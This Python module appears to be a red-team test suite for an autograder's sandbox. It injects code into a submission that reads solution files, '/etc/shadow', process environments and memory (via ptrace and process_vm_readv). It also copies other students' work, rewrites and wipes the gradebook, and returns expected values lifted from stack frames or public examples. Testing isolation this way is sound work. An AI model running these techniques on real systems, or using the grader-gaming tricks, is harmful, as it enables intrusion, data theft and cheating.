"""Attacks that look for the answers: in files, in memory, in frames, in descriptors, over the network.

Each prints what it finds, so that a leak shows in its outputs, and answers with it where it can.
"""

from __future__ import annotations

from sample_class.handed_in import HandedIn

from attacks.recipe import COURSE, attack

#: What the searches share: show loot, and answer with any definition that it holds.
LOOT = f"""
import contextlib
import os
import re
from pathlib import Path

COURSE = Path("{COURSE}")

def show(where, found):
    print("LOOT", where, str(found)[:4000])

def look(path):
    try:
        path = Path(path)
        show(path, sorted(os.listdir(path)) if path.is_dir() else path.read_bytes()[:20000])
        return True
    except Exception as error:
        print(path, type(error).__name__)
        return False

def dot_score(x_i, x_j):
    return 0.0
"""


def _search(submission: HandedIn, source: str) -> None:
    submission.fill("dot_score", LOOT)
    submission.after("dot_score", source)


@attack("reading", "dot_score")
def solutions_by_absolute_path(submission: HandedIn) -> None:
    """The hidden solution library is opened where it lies, and run."""
    _search(
        submission,
        """
        library = COURSE / "solutions/exercises/dot_product_similarity/dot_score.py"
        look(COURSE)
        look(COURSE / "solutions")
        look(COURSE / "solutions/canary.txt")
        if look(library):
            exec(compile(library.read_text(), str(library), "exec"))
        look(COURSE / "build/source/01_dot_product_similarity/01_dot_product_similarity.ipynb")
        look(COURSE / ".course_secret")
        """,
    )


@attack("reading", "dot_score")
def solutions_by_relative_path(submission: HandedIn) -> None:
    """The solution library is searched for upwards from the working folder and from every imported module."""
    _search(
        submission,
        """
        import sys
        import attention_lib

        starts = [Path.cwd(), Path.home(), Path(attention_lib.__file__).parent, *map(Path, sys.path)]
        starts += [
            Path(module.__file__).parent
            for name, module in sys.modules.items()
            if name.startswith("autograder") and getattr(module, "__file__", None)
        ]
        for start in dict.fromkeys(starts):
            for folder in [start, *start.parents]:
                for name in (".", "canary.txt", "exercises/dot_product_similarity/dot_score.py"):
                    if (folder / "solutions" / name).exists():
                        look(folder / "solutions" / name)
        with contextlib.suppress(OSError):
            os.symlink(COURSE / "solutions/canary.txt", "canary.txt")
            look("canary.txt")
        with contextlib.suppress(OSError):
            os.chdir(COURSE)
            look("solutions/canary.txt")
        """,
    )


@attack("reading", "dot_score")
def imported_solutions(submission: HandedIn) -> None:
    """The grader's own modules are imported, and asked for the answers."""
    _search(
        submission,
        """
        import importlib
        import sys

        sys.path[:0] = [str(COURSE), str(COURSE / "solutions"), str(COURSE / "solutions/exercises")]
        for name in ("solutions", "dot_product_similarity", "exercises.dot_product_similarity",
                     "_hidden_dot_product_similarity", "autograder.grading", "autograder.judging.judge"):
            with contextlib.suppress(Exception):
                show(name, vars(importlib.import_module(name)).keys())
        with contextlib.suppress(Exception):
            from autograder.library import load
            library = load(COURSE / "solutions", "01_dot_product_similarity")
            show("loaded", library.questions)
            dot_score = library.exercises["dot_score"].reference
        """,
    )


@attack("reading", "dot_score")
def gradebook_read(submission: HandedIn) -> None:
    """The gradebook is read, and written: points for everyone."""
    _search(
        submission,
        """
        import sqlite3

        look(COURSE / "gradebook.db")
        with contextlib.suppress(Exception):
            book = sqlite3.connect(COURSE / "gradebook.db")
            show("tables", book.execute("select * from sqlite_master").fetchall())
            book.execute("update grade set manual_score = 1000")
            book.commit()
        with contextlib.suppress(OSError):
            (COURSE / "gradebook.db").write_bytes(b"")
        """,
    )


@attack("reading", "dot_score")
def other_submissions_read(submission: HandedIn) -> None:
    """The work that others handed in is searched for a dot_score to copy."""
    _search(
        submission,
        r"""
        look(COURSE / "submitted")
        look(COURSE / "autograded")
        look(COURSE / "submitted/neighbour/01_dot_product_similarity/01_dot_product_similarity.ipynb")
        for found in [*COURSE.glob("submitted/*/*/*.ipynb"), *Path("/tmp").glob("**/*.ipynb")]:
            look(found)
        """,
    )


@attack("reading", "dot_score")
def environment_read(submission: HandedIn) -> None:
    """Secrets are looked for in the environment of this process and of those around it."""
    _search(
        submission,
        """
        show("environ", dict(os.environ))
        for pid in ["self", os.getppid(), 1, *[name for name in os.listdir("/proc") if name.isdigit()]]:
            look(f"/proc/{pid}/environ")
            look(f"/proc/{pid}/cmdline")
            with contextlib.suppress(OSError):
                show(pid, os.readlink(f"/proc/{pid}/cwd"))
        """,
    )


@attack("reading", "dot_score")
def memory_of_others_read(submission: HandedIn) -> None:
    """The memory of the parent and of every process that can be seen is searched for the canary."""
    _search(
        submission,
        """
        def search(pid):
            for line in open(f"/proc/{pid}/maps"):
                low, high = (int(end, 16) for end in line.split()[0].split("-"))
                if " rw" in line and high - low < 1 << 24:
                    with open(f"/proc/{pid}/mem", "rb") as memory:
                        memory.seek(low)
                        for found in re.findall(rb"CANARY-[0-9a-f]{16}", memory.read(high - low)):
                            show(pid, found)

        others = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {os.getppid()}
        for pid in others - {os.getpid()}:
            with contextlib.suppress(OSError):
                search(pid)
        """,
    )


@attack("reading", "dot_score")
def memory_of_others_by_system_call(submission: HandedIn) -> None:
    """ptrace, process_vm_readv, pidfd_getfd and bpf are called past Python, through libc."""
    _search(
        submission,
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        PTRACE_ATTACH = 16
        if libc.ptrace(PTRACE_ATTACH, parent, 0, 0) == 0:
            show("attached", parent)

        class Span(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

        held = ctypes.create_string_buffer(4096)
        mine, theirs = Span(ctypes.addressof(held), 4096), Span(id(dot_score) & ~4095, 4096)
        read = libc.process_vm_readv(parent, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        if read > 0:
            show("parent", held.raw)
        PIDFD_OPEN, PIDFD_GETFD = 434, 438
        handle = libc.syscall(PIDFD_OPEN, parent, 0)
        for number in range(32):
            fetched = libc.syscall(PIDFD_GETFD, handle, number, 0)
            if handle >= 0 and fetched >= 0:
                show("fetched", os.readlink(f"/proc/self/fd/{fetched}"))
        """,
    )


@attack("reading", "dot_score", "cosine_score_matrix")
def frames_walked(submission: HandedIn) -> None:
    """Every frame above the function is searched for an expected value to return."""
    walk = """
        import inspect
        import sys

        def found_in_frames():
            frame = sys._getframe(1)
            while frame is not None:
                for names in (frame.f_locals, frame.f_globals):
                    for name, value in list(names.items()):
                        if any(word in name for word in ("expected", "reference", "answer", "library")):
                            if isinstance(value, (float, np.ndarray)):
                                return value
                frame = frame.f_back
            for record in inspect.stack():
                for name, value in record.frame.f_locals.items():
                    if "CANARY" in str(name):
                        print("LOOT", value)
            return None
        """
    submission.before("dot_score", walk)
    submission.fill("dot_score", "def dot_score(x_i, x_j):\n    return found_in_frames()")
    submission.fill(
        "cosine_score_matrix", "def cosine_score_matrix(X, eps=1e-12):\n    return found_in_frames()"
    )


@attack("reading", "cosine_score_matrix")
def heap_searched(submission: HandedIn) -> None:
    """The garbage collector lists every object; an array of the right shape must be the expected one."""
    submission.fill(
        "cosine_score_matrix",
        """
        import gc
        import sys

        def cosine_score_matrix(X, eps=1e-12):
            n = len(X)
            for thing in gc.get_objects():
                held = gc.get_referents(thing) if isinstance(thing, (dict, list, tuple)) else []
                for candidate in [thing, *held]:
                    if isinstance(candidate, np.ndarray) and candidate.shape == (n, n):
                        return candidate
                    if isinstance(candidate, str) and candidate.startswith("CANARY-"):
                        print("LOOT", candidate)
            return None
        """,
    )


@attack("reading", "dot_score")
def open_descriptors_read(submission: HandedIn) -> None:
    """Every open file descriptor is listed and read; so are those of other processes."""
    _search(
        submission,
        """
        for name in sorted(os.listdir("/proc/self/fd"), key=int):
            with contextlib.suppress(OSError):
                show(name, os.readlink(f"/proc/self/fd/{name}"))
        for number in range(3, 21):
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                show(number, os.read(number, 100_000))
            with contextlib.suppress(OSError):
                os.set_blocking(number, True)
        look(f"/proc/{os.getppid()}/fd")
        """,
    )


@attack("reading", "dot_score")
def network_used(submission: HandedIn) -> None:
    """Sockets of every kind, and urllib: to fetch answers, to send loot."""
    _search(
        submission,
        """
        import socket
        import urllib.request

        for family, address in [
            (socket.AF_INET, ("127.0.0.1", 80)),
            (socket.AF_INET6, ("::1", 80)),
            (socket.AF_UNIX, "/run/docker.sock"),
            (socket.AF_UNIX, "\\0abstract"),
        ]:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try:
                    with socket.socket(family, kind) as line:
                        line.settimeout(1)
                        line.connect(address)
                        show("connected", address)
                except OSError as error:
                    print(address, type(error).__name__)
        with contextlib.suppress(Exception):
            show("fetched", urllib.request.urlopen("http://127.0.0.1:9/", timeout=1).read())
        with contextlib.suppress(Exception):
            server = socket.create_server(("127.0.0.1", 0))
            show("listening", server.getsockname())
        """,
    )


@attack("reading", "dot_score", "cosine_score_matrix", "normalize_scores")
def public_examples_looked_up(submission: HandedIn) -> None:
    """The public examples' own answers, from the student's library, and nothing for any other input."""
    for name, parameters in [
        ("dot_score", "x_i, x_j"),
        ("normalize_scores", "scores"),
        ("cosine_score_matrix", "X, eps=1e-12"),
    ]:
        first = parameters.split(",")[0]
        submission.fill(
            name,
            f"""
            from attention_lib import public

            def {name}({parameters}):
                for example in public.find_exercise("{name}")["examples"]:
                    asked = public.decode(example["arguments"][0])
                    if np.shape(asked) == np.shape({first}) and np.array_equal(asked, {first}):
                        return public.decode(example["expected"])
                return 0.0
            """,
        )


@attack("reading", "dot_score")
def kernel_and_devices_read(submission: HandedIn) -> None:
    """The kernel's log and memory, raw disks, terminals, /sys and the control groups."""
    _search(
        submission,
        """
        import ctypes

        for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/tty", "/dev/pts", "/dev/shm",
                     "/proc", "/proc/kcore", "/proc/kallsyms", "/proc/1/mem", "/sys", "/etc/passwd",
                     "/etc/shadow", "/root", "/home", "/var/log", "/var/spool", "/run", "/boot", "/srv", "/"):
            look(path)
        held = ctypes.create_string_buffer(1 << 16)
        if ctypes.CDLL(None).klogctl(3, held, len(held)) > 0:
            show("kernel log", held.value)
        """,
    )


@attack("reading", "dot_score")
def neighbours_folders_read(submission: HandedIn) -> None:
    """The folders beside the private one: those of other submissions, the zygote's settings and its log."""
    _search(
        submission,
        """
        here = Path.cwd()
        for above in list(here.parents)[:4]:
            look(above)
            for name in ("config", "children", "log", "1", "2", "3"):
                if (above / name) != here and above != Path("/"):
                    look(above / name)
        for folder in ("/tmp", "/var/tmp", "/dev/shm"):
            look(folder)
        """,
    )


@attack("reading", "cosine_score_matrix")
def leftover_memory_read(submission: HandedIn) -> None:
    """Memory that is not cleared before it is handed out is searched for what an earlier owner left in it."""
    submission.fill(
        "cosine_score_matrix",
        """
        import ctypes
        import re

        libc = ctypes.CDLL(None)
        libc.malloc.restype = ctypes.c_void_p

        def cosine_score_matrix(X, eps=1e-12):
            for size in (1 << 7, 1 << 12, 1 << 16, 1 << 20):
                for _ in range(5):
                    block = libc.malloc(size)
                    found = re.search(rb"CANARY-[0-9a-f]{16}", ctypes.string_at(block, size))
                    if found:
                        print("LOOT", found)
            return np.empty((len(X), len(X)))
        """,
    )


@attack("reading", "dot_score")
def paths_walked_by_descriptor(submission: HandedIn) -> None:
    """Folders are opened by path only, walked from there, and reopened through /proc/self/fd."""
    _search(
        submission,
        """
        for start in ("/", str(COURSE), str(COURSE / "solutions"), "/proc/self/root", "/proc/1/root"):
            try:
                handle = os.open(start, os.O_PATH)
            except OSError as error:
                print(start, type(error).__name__)
                continue
            for name in ("canary.txt", "gradebook.db", "solutions/canary.txt", "."):
                for flags in (os.O_RDONLY, os.O_PATH):
                    with contextlib.suppress(OSError):
                        opened = os.open(name, flags, dir_fd=handle)
                        with contextlib.suppress(OSError):
                            show(name, os.read(opened, 1000))
                        with contextlib.suppress(OSError):
                            show(name, Path(f"/proc/self/fd/{opened}").read_bytes())
                        with contextlib.suppress(OSError):
                            show(name, os.listdir(opened))
                        with contextlib.suppress(OSError):
                            os.fchdir(opened)
                            show(name, os.listdir("."))
        """,
    )
